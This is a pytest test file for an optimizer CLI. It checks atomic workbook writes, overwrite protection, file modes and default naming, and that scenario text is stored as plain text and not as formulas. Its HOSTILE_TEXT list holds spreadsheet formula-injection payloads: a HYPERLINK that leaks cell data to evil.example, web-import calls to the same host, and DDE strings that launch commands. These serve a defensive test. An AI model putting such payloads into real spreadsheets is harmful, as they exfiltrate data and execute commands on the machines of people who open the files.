"""Output is never lost or corrupted, and scenario text never becomes a formula.

For every command that writes a workbook (solve with an optimal plan, solve
with an infeasible one, sweep, tornado, compare, simulate):

- an existing file is replaced only with --force, and is left byte for byte
  unchanged otherwise;
- an output folder that cannot be written gives exit 2 naming the path
  (tests run as root, which ignores permission bits, so the folders here are
  made impossible another way: a path under a regular file, or under /proc);
- a crash or an interrupt while the workbook is being saved leaves neither a
  partial workbook nor a temporary file, and an existing file survives;
- -o must name an .xlsx file; new workbooks are readable by colleagues (the
  umask's mode), --force keeps the replaced file's mode, and default names
  never collide, even for runs started in the same second;
- every string from the scenario file (names, models, notes, regime,
  description, ids that start with '-') is stored as text: no formula in any
  sheet contains any of it.
"""
from __future__ import annotations

import os
import re
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from conftest import FIXTURES, REPO

from optimizer.cli import cli
from optimizer.report.xlsx import Book

HOSTILE = FIXTURES / "outputs_hostile.yaml"
H = str(HOSTILE)

COMMANDS = {
    "solve": (["solve", H], 0, "Summary"),
    "solve-infeasible": (["solve", H, "--variant", "impossible"], 3, "Diagnosis"),
    "sweep": (["sweep", H, "--vary", "sites.-s.budget.amount=50,100"], 0, None),
    "tornado": (["tornado", H], 0, None),
    "compare": (["compare", H, f"{H}@impossible"], 0, None),
    "simulate": (["simulate", H, "--draws", "5"], 0, "Simulation"),
}
IDS = list(COMMANDS)

# fragments of the hostile text; none may appear inside a formula
MARKERS = ("evil.example", "cmd|", "HYPERLINK", "IMPORTXML", "WEBSERVICE", "IMPORTDATA", "SUM(1+1)", "2+3")
HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|"/C calc"!A0',
    "+1+1",
    '-2+3+cmd|"/C calc"!A0',
    "=1+1",
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    '@IMPORTDATA("http://evil.example")',
]


def run(args):
    return CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


# ------------------------------------------------------------------ formulas


@pytest.fixture(scope="module")
def written(tmp_path_factory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("hostile")
    out = {}
    for name, (args, code, _) in COMMANDS.items():
        target = folder / f"{name}.xlsx"
        r = run([*args, "-o", target])
        assert r.exit_code == code, (name, r.stderr)
        assert target.exists(), name
        out[name] = target
    return out


def formulas_in(path: Path) -> list[str]:
    """Every <f> element of every worksheet, read from the raw xlsx XML."""
    found = []
    with zipfile.ZipFile(path) as z:
        for n in z.namelist():
            if n.startswith("xl/worksheets/") and n.endswith(".xml"):
                found += re.findall(r"<f[^>]*>(.*?)</f>", z.read(n).decode("utf-8"), flags=re.S)
    return found


@pytest.mark.parametrize("name", IDS)
def test_no_formula_contains_scenario_text(written, name):
    for f in formulas_in(written[name]):
        for m in MARKERS:
            assert m not in f, (name, f)
        assert f not in ("1+1", "+1+1")


@pytest.mark.parametrize("name", IDS)
def test_scenario_text_is_kept_as_plain_text(written, name):
    wb = openpyxl.load_workbook(written[name])
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value in HOSTILE_TEXT:
                    assert c.data_type == "s", (name, ws.title, c.coordinate, c.value)
                    seen.add(c.value)
                if isinstance(c.value, str) and c.data_type == "f":
                    assert not any(m in c.value for m in MARKERS), (name, ws.title, c.coordinate)
    # the scenario's name at least travels with every workbook, as text
    assert HOSTILE_TEXT[0] in seen, name


def test_hostile_ids_reach_the_diagnosis_as_text(written):
    ws = openpyxl.load_workbook(written["solve-infeasible"])["Diagnosis"]
    values = [c.value for row in ws.iter_rows() for c in row if c.value is not None]
    assert "--set chips.-1.min_units=100" in values
    assert "chip_min[-1]" in values


# ------------------------------------------------------------------ --force


@pytest.mark.parametrize("name", IDS)
def test_existing_file_is_replaced_only_with_force(name, tmp_path):
    args, code, first = COMMANDS[name]
    target = tmp_path / "out.xlsx"
    target.write_bytes(b"finance's own edits")
    r = run([*args, "-o", target])
    assert r.exit_code == 2
    assert str(target) in r.stderr and "--force" in r.stderr
    assert "Traceback" not in r.stderr
    assert target.read_bytes() == b"finance's own edits"
    assert leftovers(tmp_path) == ["out.xlsx"]
    r = run([*args, "-o", target, "--force"])
    assert r.exit_code == code, r.stderr
    wb = openpyxl.load_workbook(target)
    if first:
        assert wb.sheetnames[0] == first
    assert leftovers(tmp_path) == ["out.xlsx"]


# ------------------------------------------------------------------ unwritable folders


def _under_a_file(tmp_path: Path) -> tuple[Path, str]:
    f = tmp_path / "afile"
    f.write_text("not a folder")
    return f / "out.xlsx", str(f)


def _under_proc(tmp_path: Path) -> tuple[Path, str]:
    return Path("/proc/chipalloc-no-such-dir/out.xlsx"), "/proc/chipalloc-no-such-dir"


def _proc_itself(tmp_path: Path) -> tuple[Path, str]:
    return Path("/proc/out.xlsx"), "/proc"


@pytest.mark.parametrize("where", [_under_a_file, _under_proc, _proc_itself], ids=["under-a-file", "proc-subdir", "proc"])
@pytest.mark.parametrize("name", IDS)
def test_unwritable_folder_is_exit_2_naming_the_path(name, where, tmp_path):
    if not Path("/proc").is_dir() and where is not _under_a_file:  # pragma: no cover - non-Linux
        pytest.skip("no /proc here")
    args, _, _ = COMMANDS[name]
    target, named = where(tmp_path)
    r = run([*args, "-o", target])
    assert r.exit_code == 2, r.output
    assert "Traceback" not in r.stderr
    assert r.stderr.startswith("error: ")
    assert named in r.stderr
    assert not target.exists()


def test_output_that_is_a_folder_is_exit_2(tmp_path):
    r = run(["solve", H, "-o", tmp_path])
    assert r.exit_code == 2
    assert str(tmp_path) in r.stderr and "is a directory" in r.stderr  # click's own check of -o
    assert "Traceback" not in r.stderr


# ------------------------------------------------------------------ atomic writes


class Boom(RuntimeError):
    pass


def _half_save(exc):
    def save(self, filename):
        with open(filename, "wb") as fh:
            fh.write(b"PK\x03\x04 half a workbook")  # a crash halfway through the zip
        raise exc

    return save


@pytest.fixture
def umask022():
    old = os.umask(0o022)
    yield
    os.umask(old)


@pytest.mark.parametrize("name", IDS)
def test_crash_while_saving_leaves_nothing_behind(name, tmp_path, monkeypatch):
    args, _, _ = COMMANDS[name]
    monkeypatch.setattr(Book, "save", _half_save(Boom("disk on fire")))
    target = tmp_path / "out.xlsx"
    r = run([*args, "-o", target])
    assert r.exit_code == 1
    assert "Traceback" not in r.stderr and "disk on fire" in r.stderr
    assert leftovers(tmp_path) == []


@pytest.mark.parametrize("name", ["solve", "solve-infeasible"])
def test_crash_while_replacing_keeps_the_old_file(name, tmp_path, monkeypatch):
    args, _, _ = COMMANDS[name]
    target = tmp_path / "out.xlsx"
    target.write_bytes(b"last week's plan")
    monkeypatch.setattr(Book, "save", _half_save(Boom("disk on fire")))
    r = run([*args, "-o", target, "--force"])
    assert r.exit_code == 1
    assert target.read_bytes() == b"last week's plan"
    assert leftovers(tmp_path) == ["out.xlsx"]


@pytest.mark.parametrize("name", ["solve", "solve-infeasible"])
def test_interrupt_while_saving_leaves_nothing_behind(name, tmp_path, monkeypatch):
    args, _, _ = COMMANDS[name]
    monkeypatch.setattr(Book, "save", _half_save(KeyboardInterrupt()))
    r = run([*args, "-o", tmp_path / "out.xlsx"])
    assert r.exit_code == 130
    assert "nothing was written" in r.stderr
    assert leftovers(tmp_path) == []


def test_no_report_and_bad_input_write_nothing(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert run(["solve", H, "--no-report"]).exit_code == 0
    assert run(["solve", H, "--variant", "impossible", "--no-report"]).exit_code == 3
    assert run(["solve", H, "--set", "sites.-s.budget.amount=-1"]).exit_code == 2
    assert leftovers(tmp_path) == []


def test_infeasible_default_report_goes_to_reports(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    r = run(["solve", H, "--variant", "impossible"])
    assert r.exit_code == 3
    files = list((tmp_path / "reports").glob("outputs_hostile-*.xlsx"))
    assert len(files) == 1
    assert f"workbook: {Path('reports') / files[0].name}" in r.stderr
    assert openpyxl.load_workbook(files[0]).sheetnames == ["Diagnosis", "Inputs", "About"]


# ------------------------------------------------------------------ -o names an .xlsx file


@pytest.mark.parametrize("name", IDS)
@pytest.mark.parametrize("bad", ["plan.csv", "plan", "plan.xls", "plan.xlsx.bak"])
def test_output_must_end_in_xlsx(name, bad, tmp_path):
    args, _, _ = COMMANDS[name]
    r = run([*args, "-o", tmp_path / bad])
    assert r.exit_code == 2
    assert "Traceback" not in r.stderr
    fix = (tmp_path / bad).with_suffix(".xlsx") if "." in bad else tmp_path / (bad + ".xlsx")
    assert r.stderr.startswith(f"error: {tmp_path / bad}: ") and "must end in .xlsx" in r.stderr
    assert r.stderr.rstrip().endswith(f"use -o {fix}")
    assert leftovers(tmp_path) == []


def test_upper_case_extension_is_a_workbook(tmp_path):
    r = run(["solve", H, "-o", tmp_path / "PLAN.XLSX"])
    assert r.exit_code == 0, r.stderr
    assert leftovers(tmp_path) == ["PLAN.XLSX"]


# ------------------------------------------------------------------ modes


@pytest.mark.parametrize("name", IDS)
def test_new_workbook_is_readable_by_colleagues(name, tmp_path, umask022):
    args, code, _ = COMMANDS[name]
    target = tmp_path / "out.xlsx"
    assert run([*args, "-o", target]).exit_code == code
    assert stat.S_IMODE(target.stat().st_mode) == 0o644


def test_mode_follows_the_umask(tmp_path):
    old = os.umask(0o027)
    try:
        assert run(["solve", H, "-o", tmp_path / "out.xlsx"]).exit_code == 0
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "out.xlsx").stat().st_mode) == 0o640


@pytest.mark.parametrize("mode", [0o664, 0o600, 0o644])
def test_force_keeps_the_replaced_files_mode(mode, tmp_path, umask022):
    target = tmp_path / "out.xlsx"
    target.write_bytes(b"old")
    target.chmod(mode)
    assert run(["solve", H, "-o", target, "--force"]).exit_code == 0
    assert target.read_bytes()[:2] == b"PK"
    assert stat.S_IMODE(target.stat().st_mode) == mode


# ------------------------------------------------------------------ default names


def test_default_names_never_collide_across_parallel_runs(tmp_path):
    """Four solves started together: all succeed, four workbooks, each name printed once."""
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    cmd = [sys.executable, "-m", "optimizer", "solve", str(HOSTILE)]
    procs = [subprocess.Popen(cmd, cwd=tmp_path, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
             for _ in range(4)]
    outs = [p.communicate(timeout=300) for p in procs]
    assert [p.returncode for p in procs] == [0, 0, 0, 0], [e for _, e in outs]
    files = sorted(p.name for p in (tmp_path / "reports").iterdir())
    assert len(files) == 4 and all(re.fullmatch(r"outputs_hostile-\d{8}-\d{6}(-\d+)?\.xlsx", f) for f in files), files
    printed = sorted(re.search(r"workbook: reports/(\S+)", e).group(1) for _, e in outs)
    assert printed == files
    for f in files:
        assert openpyxl.load_workbook(tmp_path / "reports" / f).sheetnames[0] == "Summary"


def test_a_taken_default_name_gets_a_suffix(tmp_path, monkeypatch):
    import datetime as dt

    from optimizer.report import files

    class Frozen(dt.datetime):
        @classmethod
        def now(cls, tz=None):
            return cls(2026, 11, 28, 17, 54, 10)

    monkeypatch.setattr(files._dt, "datetime", Frozen)
    monkeypatch.chdir(tmp_path)
    (tmp_path / "reports").mkdir()
    (tmp_path / "reports" / "outputs_hostile-20261128-175410.xlsx").write_bytes(b"someone else's")
    for expected in ("outputs_hostile-20261128-175410-2.xlsx", "outputs_hostile-20261128-175410-3.xlsx"):
        r = run(["solve", H])
        assert r.exit_code == 0, r.stderr
        assert f"workbook: {Path('reports') / expected}" in r.stderr
    assert (tmp_path / "reports" / "outputs_hostile-20261128-175410.xlsx").read_bytes() == b"someone else's"
    r = run(["sweep", H, "--vary", "sites.-s.budget.amount=50,100"])
    assert r.exit_code == 0 and "reports/outputs_hostile-sweep-20261128-175410.xlsx" in r.stderr
